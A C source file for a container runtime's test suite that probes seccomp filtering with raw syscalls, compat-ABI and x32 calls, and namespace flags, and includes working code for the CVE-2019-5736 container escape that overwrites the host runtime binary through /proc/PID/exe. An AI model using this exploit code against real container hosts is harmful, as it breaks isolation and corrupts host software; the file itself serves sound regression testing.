/* Never run `probe syscalls` on the host: some calls succeed there (as root) and change state.
 *
 * Syscall probe for husk's seccomp and security tests. Built static by tests/common/probe.rs
 * (gcc -static -pthread) and copied into the container as /bin/probe.
 *
 *   probe syscalls          one line per syscall/argument pattern: "name(args) = ret" or
 *                           "name(args) = -1 ERRNO" (or "killed by signal N"); deterministic,
 *                           so two runtimes with the same profile print the same text
 *   probe action MODE       calls getppid (nr 110) in a child and reports what happened:
 *                           MODE plain | thread | trap | trace | self (in pid 1 itself)
 *   probe fds               every open descriptor: "fd N -> target"
 *   probe grab-exe FIRST LAST MS GO   the CVE-2019-5736 exec race: see grab_exe()
 *   probe exe-write FD-PATH tries to open the path for writing, reports errno
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static void out(const char *fmt, ...) {
    char buf[1024];
    va_list ap;
    va_start(ap, fmt);
    int n = vsnprintf(buf, sizeof buf, fmt, ap);
    va_end(ap);
    if (n > (int)sizeof buf - 1) n = sizeof buf - 1;
    if (n > 0) (void)!write(1, buf, n);
}

static const char *ename(int e) {
    static char b[32];
    switch (e) {
#define E(x) case x: return #x;
    E(EPERM) E(ENOENT) E(ESRCH) E(EINTR) E(EIO) E(ENXIO) E(E2BIG) E(ENOEXEC) E(EBADF)
    E(ECHILD) E(EAGAIN) E(ENOMEM) E(EACCES) E(EFAULT) E(EBUSY) E(EEXIST) E(EXDEV)
    E(ENODEV) E(ENOTDIR) E(EISDIR) E(EINVAL) E(ENFILE) E(EMFILE) E(ENOTTY) E(ETXTBSY)
    E(EFBIG) E(ENOSPC) E(ESPIPE) E(EROFS) E(EMLINK) E(EPIPE) E(EDOM) E(ERANGE)
    E(ENOSYS) E(ENOMSG) E(ENOTSOCK) E(EPROTONOSUPPORT) E(EAFNOSUPPORT) E(EOPNOTSUPP)
    E(ENOTCONN) E(EDESTADDRREQ) E(ELOOP) E(ENAMETOOLONG) E(ENOTEMPTY) E(ESOCKTNOSUPPORT)
    E(EPROTOTYPE) E(ENOPROTOOPT) E(ENOKEY) E(EDQUOT) E(ENOTSUP + 1000)
#undef E
    }
    snprintf(b, sizeof b, "E%d", e);
    return b;
}

/* A call in a forked child, so calls with side effects (personality, unshare, clone) and
 * killing actions don't touch the probe; the child reports through its exit status. */
typedef long (*callfn)(void);

static void report(const char *label, long r, int err) {
    if (r == -1) out("%s = -1 %s\n", label, ename(err));
    else out("%s = %s\n", label, r == 0 ? "0" : "ok");
}

static void isolated(const char *label, callfn f) {
    int p[2];
    if (pipe(p) != 0) { out("%s: pipe failed\n", label); return; }
    pid_t pid = fork();
    if (pid == 0) {
        close(p[0]);
        errno = 0;
        long r = f();
        int e = errno;
        long msg[2] = {r, e};
        (void)!write(p[1], msg, sizeof msg);
        _exit(0);
    }
    close(p[1]);
    long msg[2];
    ssize_t n = read(p[0], msg, sizeof msg);
    close(p[0]);
    int st = 0;
    waitpid(pid, &st, 0);
    if (n == sizeof msg) report(label, msg[0], (int)msg[1]);
    else if (WIFSIGNALED(st)) out("%s = killed by signal %d\n", label, WTERMSIG(st));
    else out("%s = child exited %d without a result\n", label, WEXITSTATUS(st));
}

/* Plain calls without side effects: raw syscall, print ret/errno. */
static void sc(const char *label, long nr, long a, long b, long c, long d, long e, long f) {
    errno = 0;
    long r = syscall(nr, a, b, c, d, e, f);
    int err = errno;
    if (r < 0) out("%s = -1 %s\n", label, ename(err));
    else out("%s = %s\n", label, r == 0 ? "0" : "ok");
}


/* i386 syscall through int 0x80 (compat ABI, filtered with AUDIT_ARCH_I386). */
static long int80(long nr, long a, long b, long c) {
    long r;
    __asm__ volatile("int $0x80" : "=a"(r) : "0"(nr), "b"(a), "c"(b), "d"(c) : "memory");
    if (r < 0 && r > -4096) { errno = -r; return -1; }
    return r;
}

static void syscalls(void) {
    char lab[128];
    /* Always allowed by every profile the tests use. */
    sc("getpid()", SYS_getpid, 0, 0, 0, 0, 0, 0);
    sc("getuid()", SYS_getuid, 0, 0, 0, 0, 0, 0);
    /* Engine default profile: errno rules, cap-dependent rules, argument rules. */
    sc("userfaultfd(0)", SYS_userfaultfd, 0, 0, 0, 0, 0, 0);
    sc("add_key(0)", SYS_add_key, 0, 0, 0, 0, 0, 0);
    sc("keyctl(-1)", SYS_keyctl, -1, 0, 0, 0, 0, 0);
    sc("request_key(0)", SYS_request_key, 0, 0, 0, 0, 0, 0);
    sc("bpf(-1)", SYS_bpf, -1, 0, 0, 0, 0, 0);
    sc("perf_event_open(0)", SYS_perf_event_open, 0, 0, -1, -1, 0, 0);
    sc("fanotify_init(0)", SYS_fanotify_init, 0, 0, 0, 0, 0, 0);
    sc("lookup_dcookie(0)", SYS_lookup_dcookie, 0, 0, 0, 0, 0, 0);
    sc("quotactl(0)", SYS_quotactl, 0, 0, 0, 0, 0, 0);
    sc("setdomainname(NULL,1)", SYS_setdomainname, 0, 1, 0, 0, 0, 0);
    sc("chroot(/nonexistent)", SYS_chroot, (long)"/nonexistent", 0, 0, 0, 0, 0);
    sc("init_module(0)", SYS_init_module, 0, 0, (long)"", 0, 0, 0);
    sc("delete_module(x)", SYS_delete_module, (long)"husk-none", 0, 0, 0, 0, 0);
    sc("finit_module(-1)", SYS_finit_module, -1, (long)"", 0, 0, 0, 0);
    sc("acct(1)", SYS_acct, 1, 0, 0, 0, 0, 0);
    sc("kcmp(0)", SYS_kcmp, 0, 0, 0, 0, 0, 0);
    sc("process_madvise(-1)", SYS_process_madvise, -1, 0, 0, 0, 0, 0);
    sc("ioperm(0,0,0)", SYS_ioperm, 0, 0, 0, 0, 0, 0);
    sc("iopl(0)", SYS_iopl, 0, 0, 0, 0, 0, 0);
    sc("settimeofday(0,0)", SYS_settimeofday, 0, 0, 0, 0, 0, 0);
    sc("clock_settime(-1,0)", SYS_clock_settime, -1, 0, 0, 0, 0, 0);
    sc("kexec_load(0)", SYS_kexec_load, 0, 0, 0, 0, 0, 0);
    sc("kexec_file_load(-1)", SYS_kexec_file_load, -1, -1, 0, 0, 0, 0);
    sc("migrate_pages(0)", SYS_migrate_pages, -1, 0, 0, 0, 0, 0);
    sc("move_pages(-1)", SYS_move_pages, -1, 0, 0, 0, 0, 0);
    sc("io_pgetevents(0)", SYS_io_pgetevents, 0, 0, 0, 0, 0, 0);
    sc("io_uring_setup(0,0)", SYS_io_uring_setup, 0, 0, 0, 0, 0, 0);
    sc("open_by_handle_at(-1)", SYS_open_by_handle_at, -1, 0, 0, 0, 0, 0);
    sc("name_to_handle_at(-1)", SYS_name_to_handle_at, -1, 0, 0, 0, 0, 0);
    sc("mount(none,/nonexistent,tmpfs)", SYS_mount, (long)"none", (long)"/nonexistent", (long)"tmpfs", 0, 0, 0);
    sc("umount2(/nonexistent)", SYS_umount2, (long)"/nonexistent", 0, 0, 0, 0, 0);
    sc("pivot_root(/x,/y)", SYS_pivot_root, (long)"/nonexistent", (long)"/nonexistent", 0, 0, 0, 0);
    sc("swapon(/nonexistent)", SYS_swapon, (long)"/nonexistent", 0, 0, 0, 0, 0);
    sc("swapoff(/nonexistent)", SYS_swapoff, (long)"/nonexistent", 0, 0, 0, 0, 0);
    sc("reboot(badmagic)", SYS_reboot, 0, 0, 0, 0, 0, 0);
    sc("syslog(3,0,0)", SYS_syslog, 3, 0, 0, 0, 0, 0);
    sc("setns(-1,0)", SYS_setns, -1, 0, 0, 0, 0, 0);
    sc("fsopen(0)", SYS_fsopen, 0, 0, 0, 0, 0, 0);
    sc("open_tree(-1)", SYS_open_tree, -1, 0, 0, 0, 0, 0);
    sc("move_mount(-1)", SYS_move_mount, -1, 0, -1, 0, 0, 0);
    sc("mount_setattr(-1)", SYS_mount_setattr, -1, 0, 0, 0, 0, 0);
    sc("ptrace(-1)", SYS_ptrace, -1, 0, 0, 0, 0, 0);
    sc("process_vm_readv(0)", SYS_process_vm_readv, 0, 0, 0, 0, 0, 0);
    sc("get_mempolicy(0)", SYS_get_mempolicy, 0, 0, 0, 0, 0, 0);
    sc("mbind(0)", SYS_mbind, 0, 0, 0, 0, 0, 0);
    sc("set_mempolicy(-1)", SYS_set_mempolicy, -1, 0, 0, 0, 0, 0);
    sc("sysfs(0)", SYS_sysfs, 0, 0, 0, 0, 0, 0);
    sc("ustat(0)", SYS_ustat, 0, 0, 0, 0, 0, 0);
    sc("uselib(0)", SYS_uselib, 0, 0, 0, 0, 0, 0);
    sc("nfsservctl", 180, 0, 0, 0, 0, 0, 0);
    sc("pkey_alloc(-1)", SYS_pkey_alloc, -1, 0, 0, 0, 0, 0);
    sc("clone3(0,0)", SYS_clone3, 0, 0, 0, 0, 0, 0);
    sc("landlock_create_ruleset(0,0,1)", SYS_landlock_create_ruleset, 0, 0, 1, 0, 0, 0);
    sc("memfd_secret(-1)", 447, -1, 0, 0, 0, 0, 0);
    sc("futex_waitv(0)", 449, 0, 0, 0, 0, 0, 0);
    sc("set_mempolicy_home_node(0)", 450, 0, 0, 0, 0, 0, 0);
    sc("cachestat(-1)", 451, -1, 0, 0, 0, 0, 0);
    sc("fchmodat2(-1)", 452, -1, 0, 0, 0, 0, 0);
    sc("map_shadow_stack(0)", 453, 0, 0, -1, 0, 0, 0);
    sc("futex_wake(0)", 454, 0, 0, 0, 0, 0, 0);
    sc("listmount(0)", 458, 0, 0, 0, 0, 0, 0);
    sc("nr 463", 463, 0, 0, 0, 0, 0, 0);
    sc("nr 470", 470, 0, 0, 0, 0, 0, 0);
    sc("nr 1000", 1000, 0, 0, 0, 0, 0, 0);
    sc("nr 0x3fffffff", 0x3fffffff, 0, 0, 0, 0, 0, 0);
    sc("x32 getpid", 0x40000000 | SYS_getpid, 0, 0, 0, 0, 0, 0);
    sc("x32 userfaultfd", 0x40000000 | SYS_userfaultfd, 0, 0, 0, 0, 0, 0);
    /* socket: family/protocol rules. */
    static const long fam[][3] = {{1, 1, 0}, {2, 2, 0}, {10, 2, 0}, {16, 3, 0}, {16, 3, 9},
                                  {16, 3, 15}, {17, 3, 0}, {40, 1, 0}, {16 | (1L << 32), 3, 9},
                                  {16, 3, 9 | (1L << 32)}};
    for (unsigned i = 0; i < sizeof fam / sizeof fam[0]; i++) {
        snprintf(lab, sizeof lab, "socket(%#lx,%ld,%#lx)", fam[i][0], fam[i][1], fam[i][2]);
        errno = 0;
        long r = syscall(SYS_socket, fam[i][0], fam[i][1], fam[i][2]);
        if (r >= 0) { close((int)r); out("%s = ok\n", lab); }
        else out("%s = -1 %s\n", lab, ename(errno));
    }
    /* personality: allowed only for exact values; the high word counts. */
    static const unsigned long pers[] = {0, 8, 0x20000, 0x20008, 0xffffffff, 0x1, 0x400000,
                                         0x100000000UL, 0x100000008UL};
    for (unsigned i = 0; i < sizeof pers / sizeof pers[0]; i++) {
        unsigned long v = pers[i];
        snprintf(lab, sizeof lab, "personality(%#lx)", v);
        long f_(void) { return syscall(SYS_personality, v); }
        isolated(lab, f_);
    }
    /* Namespace creation: clone/unshare flag rules (engine profile: CAP_SYS_ADMIN only). */
    static const long ns[] = {0x00020000 /*NEWNS*/, 0x04000000 /*NEWUTS*/, 0x10000000 /*NEWUSER*/,
                              0x40000000 /*NEWNET*/, 0x02000000 /*NEWCGROUP*/, 0x80 /*NEWTIME*/};
    for (unsigned i = 0; i < sizeof ns / sizeof ns[0]; i++) {
        long fl = ns[i];
        snprintf(lab, sizeof lab, "unshare(%#lx)", fl);
        long u_(void) { return syscall(SYS_unshare, fl); }
        isolated(lab, u_);
        snprintf(lab, sizeof lab, "clone(%#lx|SIGCHLD)", fl);
        long c_(void) {
            long r = syscall(SYS_clone, fl | SIGCHLD, 0, 0, 0, 0);
            if (r == 0) _exit(0);
            if (r > 0) { waitpid((pid_t)r, NULL, 0); return 0; }
            return r;
        }
        isolated(lab, c_);
    }
    /* i386 compat ABI through int 0x80 (getpid=20, personality=136, socketcall=102,
     * userfaultfd=374, unknown=999). */
    long i1(void) { return int80(20, 0, 0, 0) > 0 ? 0 : -1; }
    isolated("i386 getpid", i1);
    long i2(void) { return int80(136, 0xffffffff, 0, 0) >= 0 ? 0 : -1; }
    isolated("i386 personality(0xffffffff)", i2);
    long i3(void) { return int80(136, 0x1, 0, 0) >= 0 ? 0 : -1; }
    isolated("i386 personality(1)", i3);
    long i4(void) { return int80(374, 0, 0, 0) >= 0 ? 0 : -1; }
    isolated("i386 userfaultfd", i4);
    long i5(void) { return int80(999, 0, 0, 0) >= 0 ? 0 : -1; }
    isolated("i386 nr 999", i5);
    long i6(void) { return int80(102, 100, 0, 0) >= 0 ? 0 : -1; }
    isolated("i386 socketcall(100)", i6);

    /* Argument conditions: harmless calls on fd -1 (EBADF when allowed) over a grid of
     * values, for profiles whose rules test these arguments. */
    static const unsigned long a1[] = {0x1000, 0x1001, 0x100001000UL};
    static const unsigned long a2[] = {0x100, 0x1ff, 0x200, 0x10100, 0xffffffff00000100UL,
                                       0x100000200UL};
    static const unsigned long a3[] = {50, 100, 101, 200, 201, 0x100000065UL};
    static const unsigned long a4[] = {0, 49, 50, ~0UL};
    for (unsigned i = 0; i < 3; i++)
        for (unsigned j = 0; j < 6; j++)
            for (unsigned k = 0; k < 6; k++)
                for (unsigned l = 0; l < 4; l++) {
                    snprintf(lab, sizeof lab, "sendto(-1,%#lx,%#lx,%#lx,%#lx)", a1[i], a2[j],
                             a3[k], a4[l]);
                    sc(lab, SYS_sendto, -1, a1[i], a2[j], a3[k], a4[l], 0);
                }
    static const unsigned long p3[] = {0, 1, 0x7fffffff, 0x80000000UL, 0xffffffffUL,
                                       0x100000000UL, 0x100000001UL, 0x1ffffffffUL,
                                       0x8000000000000000UL, ~0UL};
    for (unsigned i = 0; i < sizeof p3 / sizeof p3[0]; i++)
        for (unsigned j = 0; j < sizeof p3 / sizeof p3[0]; j++) {
            snprintf(lab, sizeof lab, "pread64(-1,0,%#lx,%#lx)", p3[i], p3[j]);
            sc(lab, SYS_pread64, -1, 0, p3[i], p3[j], 0, 0);
        }
    static const unsigned long m[] = {0, 0x5, 0x15, 0xf5, 0xff05, 0x500000000UL,
                                      0xab00000000000005UL, 0xabcd000000000005UL,
                                      0xab00000000000000UL, 0xab00000000000100UL,
                                      0xab000000ffffff00UL};
    for (unsigned i = 0; i < sizeof m / sizeof m[0]; i++)
        for (unsigned j = 0; j < 4; j++) {
            snprintf(lab, sizeof lab, "fadvise64(-1,%#lx,0,%u)", m[i], j);
            sc(lab, SYS_fadvise64, -1, m[i], 0, j, 0, 0);
        }
}

/* ---- action outcomes: getppid in a child ---- */

static void on_sigsys(int sig, siginfo_t *si, void *ctx) {
    (void)sig; (void)ctx;
    char b[128];
    int n = snprintf(b, sizeof b, "SIGSYS syscall=%d arch=%#x errno=%d code=%d\n",
                     si->si_syscall, si->si_arch, si->si_errno, si->si_code);
    (void)!write(1, b, n);
    _exit(0);
}

static void *thread_call(void *x) {
    (void)x;
    errno = 0;
    long r = syscall(SYS_getppid);
    out("thread: getppid = %s\n", r < 0 ? ename(errno) : "ok");
    return NULL;
}

static int action(const char *mode) {
    if (!strcmp(mode, "self")) {
        errno = 0;
        long r = syscall(SYS_getppid);
        out("getppid = %s\n", r < 0 ? ename(errno) : "ok");
        return 0;
    }
    pid_t pid = fork();
    if (pid == 0) {
        if (!strcmp(mode, "trap")) {
            struct sigaction sa = {0};
            sa.sa_sigaction = on_sigsys;
            sa.sa_flags = SA_SIGINFO;
            sigaction(SIGSYS, &sa, NULL);
        }
        if (!strcmp(mode, "trace")) {
            ptrace(PTRACE_TRACEME, 0, 0, 0);
            raise(SIGSTOP);
        }
        if (!strcmp(mode, "thread")) {
            pthread_t t;
            pthread_create(&t, NULL, thread_call, NULL);
            struct timespec ts = {0, 300 * 1000 * 1000};
            nanosleep(&ts, NULL);
            out("main thread survived\n");
            _exit(0);
        }
        errno = 0;
        long r = syscall(SYS_getppid);
        out("getppid = %s\n", r < 0 ? ename(errno) : "ok");
        _exit(0);
    }
    int st;
    if (!strcmp(mode, "trace")) {
        waitpid(pid, &st, 0); /* the SIGSTOP */
        ptrace(PTRACE_SETOPTIONS, pid, 0, PTRACE_O_TRACESECCOMP | PTRACE_O_EXITKILL);
        ptrace(PTRACE_CONT, pid, 0, 0);
        for (;;) {
            if (waitpid(pid, &st, 0) < 0) break;
            if (WIFEXITED(st) || WIFSIGNALED(st)) break;
            if (WIFSTOPPED(st) && (st >> 8) == (SIGTRAP | (PTRACE_EVENT_SECCOMP << 8))) {
                unsigned long msg = 0;
                ptrace(PTRACE_GETEVENTMSG, pid, 0, &msg);
                out("tracer: seccomp event data=%lu\n", msg);
            }
            ptrace(PTRACE_CONT, pid, 0, 0);
        }
    } else {
        waitpid(pid, &st, 0);
    }
    if (WIFSIGNALED(st)) out("child killed by signal %d\n", WTERMSIG(st));
    else out("child exited %d\n", WEXITSTATUS(st));
    return 0;
}

/* ---- descriptors ---- */

static int fds(void) {
    for (int fd = 0; fd < 65536; fd++) {
        if (fcntl(fd, F_GETFD) < 0) continue;
        char p[64], t[512];
        snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
        ssize_t n = readlink(p, t, sizeof t - 1);
        t[n < 0 ? 0 : n] = 0;
        out("fd %d -> %s\n", fd, t);
    }
    return 0;
}

/* ---- CVE-2019-5736 exec race ----
 * Pids FIRST..LAST are the processes `exec` will start, one after another (pid namespace
 * numbering is sequential). For each, spin on open(/proc/P/exe): a runtime whose exec child
 * is reachable before execve hands us its own binary. Anything that is not /bin/busybox (what
 * the exec'd program is) counts as grabbed. After MS milliseconds or when GO exists, try to
 * open every grabbed binary for writing (retrying ETXTBSY while the runtime still runs). */
static int grab_exe(int first, int last, int ms, const char *go) {
    struct stat bb;
    if (stat("/bin/busybox", &bb) != 0) { out("no /bin/busybox\n"); return 1; }
    int grabbed[256], ng = 0, seen = 0;
    struct timespec t0, t;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    int p = first;
    char path[64], next[64];
    for (;;) {
        clock_gettime(CLOCK_MONOTONIC, &t);
        long el = (t.tv_sec - t0.tv_sec) * 1000 + (t.tv_nsec - t0.tv_nsec) / 1000000;
        if (el > ms || p > last || access(go, F_OK) == 0) break;
        snprintf(path, sizeof path, "/proc/%d/exe", p);
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd >= 0) {
            struct stat st;
            fstat(fd, &st);
            seen++;
            if ((st.st_dev != bb.st_dev || st.st_ino != bb.st_ino) && ng < 256) {
                grabbed[ng++] = fd;
                out("grabbed pid %d exe (dev %lu ino %lu)\n", p, (unsigned long)st.st_dev,
                    (unsigned long)st.st_ino);
            } else {
                close(fd);
            }
            p++;
            continue;
        }
        snprintf(next, sizeof next, "/proc/%d", p + 1);
        if (access(next, F_OK) == 0) p++;
    }
    out("exe opened for %d processes, %d were not the exec'd program\n", seen, ng);
    while (access(go, F_OK) != 0) usleep(10000);
    int written = 0;
    for (int i = 0; i < ng; i++) {
        char fp[64];
        snprintf(fp, sizeof fp, "/proc/self/fd/%d", grabbed[i]);
        int w = -1, e = 0;
        for (int tries = 0; tries < 300; tries++) {
            w = open(fp, O_WRONLY);
            e = errno;
            if (w >= 0 || e != ETXTBSY) break;
            usleep(10000);
        }
        if (w >= 0) {
            if (pwrite(w, "PWNED", 5, 0) == 5) written++;
            close(w);
        } else {
            out("open grabbed exe for writing: %s\n", ename(e));
        }
    }
    out("overwrote %d host binaries\n", written);
    return 0;
}

/* CVE-2019-5736, deterministic form: hold the runtime's binary open through /proc/PID/exe,
 * wait for GO (the runtime has exec'd the user's program and exited), then write. */
static int hold_exe(const char *exe, const char *ready, const char *go) {
    int fd = open(exe, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        out("open %s: %s\n", exe, ename(errno));
        int r = open(ready, O_WRONLY | O_CREAT, 0644);
        close(r);
        return 0;
    }
    struct stat st;
    fstat(fd, &st);
    out("opened %s (size %ld)\n", exe, (long)st.st_size);
    int r = open(ready, O_WRONLY | O_CREAT, 0644);
    close(r);
    while (access(go, F_OK) != 0) usleep(10000);
    char fp[64];
    snprintf(fp, sizeof fp, "/proc/self/fd/%d", fd);
    int w = -1, e = 0;
    for (int tries = 0; tries < 500; tries++) {
        w = open(fp, O_WRONLY);
        e = errno;
        if (w >= 0 || e != ETXTBSY) break;
        usleep(10000);
    }
    if (w < 0) { out("open for writing: %s\n", ename(e)); return 0; }
    if (pwrite(w, "PWNED", 5, 0) == 5) out("overwrote the runtime binary\n");
    else out("write: %s\n", ename(errno));
    return 0;
}

int main(int argc, char **argv) {
    if (argc >= 2 && !strcmp(argv[1], "syscalls")) { syscalls(); return 0; }
    if (argc >= 3 && !strcmp(argv[1], "action")) return action(argv[2]);
    if (argc >= 2 && !strcmp(argv[1], "fds")) return fds();
    if (argc >= 6 && !strcmp(argv[1], "grab-exe"))
        return grab_exe(atoi(argv[2]), atoi(argv[3]), atoi(argv[4]), argv[5]);
    if (argc >= 5 && !strcmp(argv[1], "hold-exe")) return hold_exe(argv[2], argv[3], argv[4]);
    fprintf(stderr, "usage: probe syscalls | action MODE | fds | grab-exe FIRST LAST MS GO | hold-exe EXE READY GO\n");
    return 2;
}
